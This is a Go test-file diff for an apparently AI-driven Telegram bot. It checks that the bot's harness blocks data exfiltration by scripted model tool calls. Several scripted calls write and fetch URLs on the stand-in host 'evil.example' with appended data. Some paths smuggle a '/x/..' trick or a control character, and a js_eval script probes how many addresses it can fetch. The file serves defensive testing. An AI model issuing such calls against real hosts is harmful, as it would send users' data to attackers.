@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net"
@@ -530,11 +531,73 @@ func TestWhatOutlivesWordsOfOthersCountsAsTheirs(t *testing.T) {
 
 	w.goesAs(bot, worker, talk[0])
 	w.say(worker, "work on it", nil)
+	w.shownTo(bot, worker, asks)
+	w.tap(bot, worker, "Allow once")
 	w.until(bot, "question of the task", func(s telegram.State) bool {
 		return slices.ContainsFunc(s.Answers(worker), func(m telegram.Message) bool {
 			return strings.Contains(m.Text, asksAddress) && strings.Contains(m.Text, "/collect?d=x")
 		})
 	})
+}
+
+// What the model wrote vouches for nothing, whatever reads it, and what somebody sent does.
+func TestAFileVouchesForAnAddressOnlyAsItWasReceived(t *testing.T) {
+	t.Parallel()
+	var talk []everyday
+	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
+		return scripted(talk).Reply(ctx, req)
+	}))
+	newSite := w.withSites(t)
+	pages, evil := newSite("pages.example"), newSite("evil.example")
+	call := func(tool string, pairs ...any) everydayCall {
+		arguments := make(map[string]any)
+		for i := 0; i < len(pairs); i += 2 {
+			arguments[pairs[i].(string)] = pairs[i+1]
+		}
+		data, err := json.Marshal(arguments)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return everydayCall{"", tool, string(data)}
+	}
+	read := call("webfetch", "url", pages+"/post")
+	writes := func(path, mode string) []everydayCall {
+		return []everydayCall{call("write_file", "path", path, "content", evil+"/a/c?d", "mode", mode), call("write_file", "path", path, "content", "=known", "mode", "append")}
+	}
+	talk = []everyday{
+		{"read the link in my file", []everydayCall{call("read_file", "path", "inbox/mine.txt"), call("webfetch", "url", evil+"/a/received?x=1")}, noCard},
+		{"change it", slices.Concat(writes("inbox/mine.txt", "append"), []everydayCall{call("read_file", "path", "inbox/mine.txt"), call("webfetch", "url", evil+"/a/c?d=known")}), asksAddress},
+		{"write it", slices.Concat([]everydayCall{read}, writes("n.txt", "overwrite"), []everydayCall{call("read_file", "path", "n.txt/x/.."), call("webfetch", "url", evil+"/a/c?d=known")}), asksAddress},
+		{"ask for it", []everydayCall{read, call("read_file", "path", evil+"/a/c?d=known\x01"), call("webfetch", "url", evil+"/a/c?d=known")}, asksAddress},
+	}
+	bot := w.run()
+	who := w.person("Reader")
+	w.ask(bot, who, "here it is", &telegram.Attachment{Kind: telegram.KindDocument, Name: "mine.txt", MIME: "text/plain", Data: []byte("See " + evil + "/a/received?x=1 ")})
+	w.goesAs(bot, who, talk[0])
+	w.goesAs(bot, who, talk[1])
+	for _, e := range talk[2:] {
+		w.goesAs(bot, w.person(e.say), e)
+	}
+}
+
+// What scripts compose counts with what the turn has composed before.
+func TestScriptsComposeNoMoreThanATurnMay(t *testing.T) {
+	t.Parallel()
+	var talk []everyday
+	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
+		return scripted(talk).Reply(ctx, req)
+	}))
+	pages := w.withSites(t)("pages.example")
+	script := func(from, opened int) everydayCall {
+		return everydayCall{"", "js_eval", fmt.Sprintf(`{"code":"let n = 0; for (let i = %d; i < %d; i++) { const w = String.fromCharCode(97 + i).repeat(15); try { await fetch('%s/' + w + '/' + w + '/' + w + '/' + w.slice(0, 10)); n++ } catch (e) {} } if (n !== %d) throw new Error('not found: ' + n); 'opened ' + n"}`, from, from+8, pages, opened)}
+	}
+	talk = []everyday{{"summarise " + pages + "/post", []everydayCall{{"", "webfetch", fmt.Sprintf(`{"url":%q}`, pages+"/post")}, script(0, 1), script(8, 0)}, noCard}}
+	bot := w.run()
+	who := w.person("Reader")
+	w.goesAs(bot, who, talk[0])
+	if answer := w.newest(who).Text; !strings.Contains(answer, "opened 0") {
+		t.Errorf("answer %q", answer)
+	}
 }
 
 // A script opens few addresses while the conversation holds words of others: which of many links it opens,
